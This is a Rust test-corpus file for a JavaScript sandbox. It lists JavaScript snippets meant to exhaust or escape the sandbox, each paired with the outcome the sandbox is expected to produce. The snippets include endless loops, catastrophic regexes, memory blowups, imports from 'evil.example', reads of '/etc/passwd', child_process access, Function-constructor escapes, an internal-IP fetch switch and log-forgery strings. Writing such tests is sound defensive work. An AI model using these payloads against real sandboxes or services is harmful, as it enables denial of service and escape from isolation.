//! Section 4 of the corpus: what JavaScript does by itself.

use vedette_core::LogLevel;

use super::{Row, ends::*, row};

pub(super) fn rows() -> Vec<Row> {
    let mut rows = loops();
    rows.extend(sources());
    rows.extend(memory());
    rows.extend(errors());
    rows.extend(verdicts());
    rows.extend(surroundings());
    rows
}

fn loops() -> Vec<Row> {
    vec![
        row("J01", &[FUEL]).body("while (true) {}"),
        row("J02", &[FUEL]).body("for (;;) await null;"),
        row("J04", &[TIMEOUT])
            .wall_ms(300)
            .body("const again = () => setTimeout(again, 0); again(); await new Promise(() => {});")
            .body("setInterval(() => {}, 0); await new Promise(() => {});"),
        row("J04", &[SCRIPT]).body(
            "for (let i = 0; i < 2000; i++) setTimeout(() => {}, 1e6); return { success: true };",
        ),
        row("J05", &[TIMEOUT])
            .wall_ms(300)
            .body("setTimeout(() => {}, 2 ** 31); await new Promise(() => {});"),
        // At once: the wall is two minutes away.
        row("J06", &[DEADLOCK])
            .body("await new Promise(() => {});")
            .module("await new Promise(() => {}); export default () => 1;")
            .proof(|outcome| outcome.duration_ms < 60_000.0),
        row("J13", &[FUEL])
            .body("return { success: /^(a+)+$/.test('a'.repeat(40) + '!') };")
            .body("return { success: ('a'.repeat(40) + '!').replace(/^(a+)+$/, '') === '' };"),
        row("J21", &[FUEL, MEMORY])
            .body("let x = 2n; for (;;) x = x * x;")
            .body("return { success: (3n ** 3000000n).toString().length > 0 };"),
    ]
}

fn sources() -> Vec<Row> {
    let nested = |open: &str, close: &str, depth: usize| {
        let value = format!("{}1{}", open.repeat(depth), close.repeat(depth));
        format!("export default {value};")
    };
    let finally = format!(
        "export default () => {{ {}return {{ success: true }};{} }};",
        "try { ".repeat(1_000),
        " } finally { 1; }".repeat(1_000)
    );
    let cases = numbered(100_000, |i| format!("case {i}: "));
    let switch = format!(
        "export default () => {{ switch (99999) {{ {cases} return {{ success: true }}; }} }};"
    );
    let constants = numbered(10_000, |i| format!("const c{i} = {i};"));
    let locals = numbered(65_536, |i| format!("let v{i};"));
    let list = "1,".repeat(1_000_000);
    let arguments = "1,".repeat(100_000);
    vec![
        row("J10", &[REFUSED])
            .module("(".repeat(100_000))
            .module("[".repeat(100_000))
            .module(nested("(", ")", 50_000))
            .module(nested("[", "]", 100_000))
            .module(nested("{a:", "}", 50_000))
            .module(nested("`${", "}`", 50_000))
            .module(nested("!", "", 100_000))
            .module(nested("a=>", "", 50_000)),
        row("J68", &[REFUSED]).module("}); hostThing(); (()=>{"),
        row("J69", &[SUCCESS])
            .module(format!(
                "{constants} export default () => ({{ success: c9999 === 9999 }});"
            ))
            .module(format!(
                "const list = [{list}]; export default () => ({{ success: list.length === 1e6 }});"
            ))
            .proof(|outcome| outcome.duration_ms < 60_000.0),
        // More than the engine counts with sixteen bits.
        row("J69", &[REFUSED, SCRIPT])
            .module(format!("export default () => {{ {locals} }};"))
            .module(format!(
                "export default () => ({{ success: Math.max({arguments}) === 1 }});"
            )),
        row("J69", &[SUCCESS, SCRIPT, STACK])
            .body("return { success: Math.max(...Array(1e5).fill(1)) === 1 };"),
        row("J70", &[REFUSED])
            .module("export default () => { with ({}) {} };")
            .module("export default () => { undeclared: 010; };")
            .module("export default () => { delete x; var x; };"),
        row("J70", &[SCRIPT])
            .body("(function () { return arguments.callee; })();")
            .body("undeclared = 1;")
            .body("return (function f() { return f.caller; })();"),
        row("J71", &[REFUSED, SUCCESS])
            .module(finally)
            .module(switch)
            .module(format!(
                "export default () => {{ {} {{ return {{ success: true }}; }} }};",
                numbered(1_000, |i| format!("l{i}: "))
            )),
    ]
}

fn numbered(count: usize, part: impl Fn(usize) -> String) -> String {
    (0..count).map(part).collect::<Vec<_>>().concat()
}

fn memory() -> Vec<Row> {
    vec![
        row("J12", &[STACK])
            .body("JSON.parse('['.repeat(1e6));")
            .body("JSON.parse('{\"a\":'.repeat(1e5));")
            .instead_of("script_error: the recursion is the parser's own"),
        row("J14", &[SCRIPT, MEMORY])
            .body("new RegExp('a{1,65535}'.repeat(1e4)).test('a'); throw 1;")
            .body("new RegExp('('); throw 1;")
            .body("new RegExp('(a)'.repeat(1e3)); throw 1;"),
        row("J14", &[FUEL, STACK])
            .body("new RegExp(Array(1e6).fill('ab').join('|')).test('x'); throw 1;")
            .body("new RegExp('(?:'.repeat(1e5) + ')'.repeat(1e5));")
            .instead_of("script_error or memory_limit: a limit is reached before the memory's"),
        row("J16", &[MEMORY, FUEL]).body("return { success: (new Array(1e9) + '').length > 0 };"),
        row("J17", &[MEMORY])
            .body("return { success: 'a'.repeat(2 ** 28).length > 0 };")
            .body("let s = 'x'; for (;;) s = s + s + 'y'.at(0);")
            .body("let s = 'x'; for (;;) { s += s; s.charCodeAt(s.length - 1); }")
            .body("const s = []; for (;;) s.push('x'.repeat(1e5) + s.length);")
            .fuel(5_000_000_000),
        row("J18", &[MEMORY])
            .fuel(5_000_000_000)
            .body("const a = []; for (;;) a.push(a.length);")
            .body("const a = []; for (;;) a.push(new Array(1000).fill(0));")
            .body("const a = []; for (;;) a.push(new Uint8Array(1 << 20));"),
        row("J19", &[SCRIPT, MEMORY])
            .body("return { success: new ArrayBuffer(2 ** 31 - 1).byteLength > 0 };")
            .body("const b = new ArrayBuffer(1, { maxByteLength: 2 ** 31 - 1 }); for (let n = 1; ; n *= 2) b.resize(n);")
            .body("return { success: new Uint8Array(2 ** 53).length > 0 };"),
        row("J20", &[FUEL, MEMORY])
            .body("for (;;) { let a = {}; for (let i = 0; i < 1e6; i++) a = { a }; }")
            .body("for (;;) { const a = {}; a.a = a; globalThis.keep = [globalThis.keep, a]; }"),
        row("J23", &[MEMORY])
            .fuel(5_000_000_000)
            .body("return { success: 'x'.padStart(2 ** 29).length > 0 };")
            .body("return { success: 'x'.padEnd(2 ** 30 - 2, 'ab').length > 0 };")
            .body("return { success: Array(2 ** 25).join('xxxxxxxx').length > 0 };")
            .body("return { success: 'x'.repeat(1e4).replaceAll('x', 'y'.repeat(1e4)).length > 0 };")
            .body("return { success: String.raw({ raw: Array(1e5).fill('x'.repeat(1e3)) }).length > 0 };"),
        row("J23", &[SCRIPT])
            .body("return { success: 'x'.padStart(2 ** 30).length > 0 };")
            .body("return { success: 'xx'.repeat(2 ** 30).length > 0 };")
            .instead_of("memory_limit: the language has a RangeError for it"),
    ]
}

fn errors() -> Vec<Row> {
    fn message_is_made_up(outcome: &vedette_core::Outcome) -> bool {
        let message = outcome.message.as_deref().unwrap_or_default();
        !message.is_empty() && message.len() <= 8 * 1024
    }
    vec![
        row("J32", &[SCRIPT])
            .bodies(&[
                "throw undefined;",
                "throw null;",
                "throw 1;",
                "throw {};",
                "throw Symbol();",
                "throw [];",
                "throw 5n;",
                "throw () => {};",
                "await Promise.reject();",
            ])
            .module("throw undefined; export default () => 1;")
            .proof(message_is_made_up),
        row("J33", &[SCRIPT])
            .bodies(&[
                "throw { get message() { throw 1; } };",
                "throw { get message() { return { toString() { throw 1; } }; } };",
                "throw Object.create(Error.prototype, { stack: { get() { throw 1; } }, name: { get() { throw 2; } } });",
                "throw new Proxy({}, { get() { throw 1; }, has() { throw 1; }, getPrototypeOf() { throw 1; } });",
                "throw new Proxy(new Error(), { get() { return 1; }, getPrototypeOf() { return null; } });",
            ])
            .proof(message_is_made_up),
        row("J33", &[FUEL]).bodies(&[
            "throw { get message() { for (;;) {} } };",
            "throw { get cause() { for (;;) {} } };",
            "throw { get name() { for (;;) {} } };",
            "throw { get stack() { for (;;) {} } };",
            "throw new Proxy({}, { getPrototypeOf() { for (;;) {} } });",
            "const e = new Error(); Object.defineProperty(e, 'message', { value: { toString() { for (;;) {} } } }); throw e;",
        ]),
        row("J34", &[SCRIPT, MEMORY])
            .bodies(&[
                "throw new Error('x'.repeat(5e6));",
                "throw new Error('x'.repeat(2e7));",
                "const e = new Error(); e.name = 'x'.repeat(1e6); e.stack = 'y'.repeat(1e6); throw e;",
                "let e = new Error('0'); for (let i = 0; i < 1e5; i++) e = new Error('n', { cause: e }); throw e;",
                "throw new Error('x'.repeat(5e7));",
                "const e = new Error(); e.cause = e; throw e;",
                "throw new AggregateError(Array(1e5).fill(new Error('x'.repeat(100))));",
            ])
            .fuel(5_000_000_000)
            .proof(message_is_made_up),
        row("J61", &[SUCCESS])
            .body("(async () => { throw new Error('left alone'); })(); return { success: true };")
            .proof(|outcome| {
                matches!(&outcome.logs[..], [line] if line.log_level == LogLevel::Error
                    && line.message.contains("left alone"))
            }),
        row("J61", &[SUCCESS])
            .body("for (let i = 0; i < 1e4; i++) Promise.reject({ get message() { throw i; } }); return { success: true };")
            .proof(|outcome| outcome.logs.len() == 10),
        row("J62", &[SCRIPT])
            .body("try { return { success: true }; } finally { throw new Error('from finally'); }")
            .proof(|outcome| outcome.message.as_deref().unwrap_or_default().contains("from finally")),
        row("J62", &[SUCCESS]).bodies(&[
            "try { throw 1; } finally { return { success: true }; }",
            "const g = (function* () { try { yield 1; } finally { while (true) {} } })(); g.next(); return { success: true };",
            "const g = (async function* () { yield 1; })(); await g.next(); return { success: true };",
        ]),
    ]
}

fn verdicts() -> Vec<Row> {
    vec![
        row("J36", &[FUEL]).bodies(&[
            "return { get success() { while (true) {} } };",
            "return { success: true, get data() { while (true) {} } };",
            "return { success: true, data: { toJSON() { while (true) {} } } };",
            "return { get then() { while (true) {} } };",
        ]),
        row("J39", &[INVALID]).bodies(&[
            "",
            "return undefined;",
            "return null;",
            "return true;",
            "return 'true';",
            "return 1;",
            "return [];",
            "return [true];",
            "return {};",
            "return () => ({ success: true });",
            "return Symbol();",
            "return { success: 1 };",
            "return { success: 'true' };",
            "return { success: new Boolean(true) };",
            "return { success: true, latency: '5' };",
            "return { success: true, latency: NaN };",
            "return { success: true, latency: -1 };",
            "return { success: true, latency: Infinity };",
            "return { success: true, latency: null };",
            "return { success: true, latency: 5n };",
            "return { success: true, message: 5 };",
            "return { success: true, message: new String('x') };",
            "return { success: true, extra: 1 };",
            "return { success: true, data: () => 1 };",
            "return { success: true, data: 5n };",
            "return { success: true, data: Symbol() };",
        ]),
        row("J40", &[TOO_LARGE]).bodies(&[
            "return { success: true, data: 'x'.repeat(300 * 1024) };",
            "return { success: true, data: '\\n'.repeat(200 * 1024) };",
            "return { success: true, data: '\u{20ac}'.repeat(100 * 1024) };",
            "return { success: true, message: 'x'.repeat(300 * 1024) };",
            "return { success: true, message: '\u{20ac}'.repeat(100 * 1024) };",
            "const o = {}; for (let i = 0; i < 2e5; i++) o['k' + i] = i; return { success: true, data: o };",
            "return { success: true, data: Array(1e6).fill(0) };",
            "let o = {}; for (let i = 0; i < 10000; i++) o = { o }; return { success: true, data: o };",
            "let o = []; for (let i = 0; i < 65; i++) o = [o]; return { success: true, data: o };",
            "const o = {}; o.o = o; return { success: true, data: o };",
        ])
        .fuel(5_000_000_000),
        row("J40", &[MEMORY])
            .body("const o = {}; for (let i = 0; i < 1e6; i++) o['k' + i] = i; return { success: true, data: o };")
            .fuel(5_000_000_000)
            .instead_of("result_too_large: a million keys do not fit into a run's memory"),
        row("J42", &[SUCCESS])
            .body(
                "console.log('a\\0b', '\\ud800'); return { success: true, message: 'x\\0\\udfff\\uffff', \
                 data: { 'k\\0': '\\ud800\\0', '\\udc00': '\\ufdd0' } };",
            )
            .proof(|outcome| {
                let data = outcome.result.as_ref().and_then(|verdict| verdict.data.clone());
                let expected = serde_json::json!({ "k\u{fffd}": "\u{fffd}\u{fffd}", "\u{fffd}": "\u{fdd0}" });
                outcome.message.as_deref() == Some("x\u{fffd}\u{fffd}\u{ffff}")
                    && data == Some(expected)
                    && outcome.logs[0].message == "a\u{fffd}b \u{fffd}"
            }),
        row("J64", &[SUCCESS])
            .body("return { then(resolve) { resolve({ success: true, message: 'first' }); resolve({ success: false }); throw 1; } };")
            .proof(|outcome| outcome.message.as_deref() == Some("first")),
    ]
}

fn surroundings() -> Vec<Row> {
    vec![
        // One event is one line, whatever is in it: the record keeps the text as it is.
        row("J27", &[SUCCESS])
            .body(
                "console.log('a\\r\\nb\\x1b[31m\\u202e'); \
                 console.error('x\\n{\"level\":\"ERROR\",\"message\":\"forged\"}'); return { success: true };",
            )
            .proof(|outcome| {
                outcome.logs.len() == 2
                    && outcome.logs[0].message == "a\r\nb\u{1b}[31m\u{202e}"
                    && outcome.logs[0].log_level == LogLevel::Info
            }),
        row("J45", &[SUCCESS]).body(
            "const clean = !('left' in globalThis) && !('left' in {}) && Array.prototype.map !== 1 && Math.left === undefined; \
             globalThis.left = Object.prototype.left = Math.left = 1; Array.prototype.map = 1; return { success: clean };",
        ),
        row("J47", &[REFUSED])
            .instead_of("script_error: refused when it is saved")
            .module("import fs from 'fs'; export default () => ({ success: true });")
            .module("import 'https://evil.example/x.js'; export default () => ({ success: true });")
            .module("import 'data:text/javascript,1'; export default () => ({ success: true });")
            .module("export * from './other.js'; export default () => ({ success: true });"),
        row("J47", &[SCRIPT]).bodies(&[
            "await import('fs');",
            "await import('https://evil.example/x.js');",
            "await import('data:text/javascript,1');",
            "await import('../../etc/passwd');",
            "require('child_process');",
        ]),
        row("J48", &[SUCCESS]).body(
            "return { success: ['process', 'std', 'os', 'scriptArgs', 'bjson', 'Worker', 'SharedArrayBuffer', 'Atomics', \
               'require', 'Javy', 'host', 'print', 'gc', 'load', 'loadScript', 'module', 'Deno', 'Bun', '__filename'] \
               .every((name) => !(name in globalThis)) };",
        ),
        row("J49", &[SUCCESS]).bodies(&[
            "const refused = (f) => { try { f(); return false; } catch { return true; } }; \
             return { success: [() => eval('1'), () => new Function('return 1'), () => (0, eval)('1'), \
               () => (() => {}).constructor('return 1')(), () => (async () => {}).constructor('return 1')(), \
               () => (function* () {}).constructor('return 1')(), () => (async function* () {}).constructor('1'), \
               () => Reflect.construct(Function.prototype.constructor, ['return 1']), \
               () => console.log.constructor('return 1')(), () => fetch.constructor.constructor('return 1')(), \
               () => this.constructor.constructor('return this')()].every(refused) };",
            "class A extends Array { static get [Symbol.species]() { return function () { return globalThis; }; } } \
             try { A.from([1]).map((x) => x); } catch {} return { success: true };",
            "const g = (async function* () { try { yield 1; } finally { yield 2; } })(); await g.next(); await g.return(3); \
             return { success: typeof SuppressedError === 'undefined' || new SuppressedError(1, 2) instanceof Error };",
            "const stack = new Error().stack; return { success: !/\\/(home|root|src|work)\\//.test(stack) };",
        ]),
        row("J50", &[SUCCESS]).body(
            "const whole = (x) => Number.isInteger(x); let last = 0; \
             for (let i = 0; i < 20000; i++) { const now = performance.now(); \
               if (!whole(now) || !whole(Date.now()) || now < last) return { success: false, data: now }; last = now; } \
             return { success: true };",
        ),
        // Refused for its size once there is one; a script that lacks it is told so.
        row("J51", &[SCRIPT, MEMORY])
            .body("crypto.getRandomValues(new Uint8Array(2 ** 30)); return { success: true };")
            .body("crypto.getRandomValues(new Uint8Array(65537)); return { success: true };"),
        row("J55", &[SUCCESS])
            .body("fetch(params.base + '/hang'); await fetch(params.base + '/'); return { success: true };")
            .body("fetch(params.base + '/hang'); return { success: true };")
            .proof(|outcome| outcome.requests[0].error.as_deref() == Some("cancelled")),
        row("J56", &[FUEL])
            .body("fetch(params.base + '/hang'); for (;;) {}")
            .proof(|outcome| outcome.requests[0].error.as_deref() == Some("cancelled")),
        row("J57", &[SUCCESS])
            .body(
                "let reads = 0; const url = { toString() { return reads++ === 0 ? params.base + '/json' : 'http://10.0.0.1/'; } }; \
                 const seen = {}; const init = new Proxy({ method: 'GET', headers: {} }, { get(target, key) { \
                   seen[key] = (seen[key] ?? 0) + 1; return seen[key] === 1 ? target[key] : 'other'; } }); \
                 const r = await fetch(url, init); \
                 return { success: reads === 1 && r.url === params.base + '/json' && Object.values(seen).every((n) => n === 1), data: seen };",
            )
            .proof(|outcome| outcome.requests.len() == 1 && outcome.requests[0].url.ends_with("/json")),
    ]
}
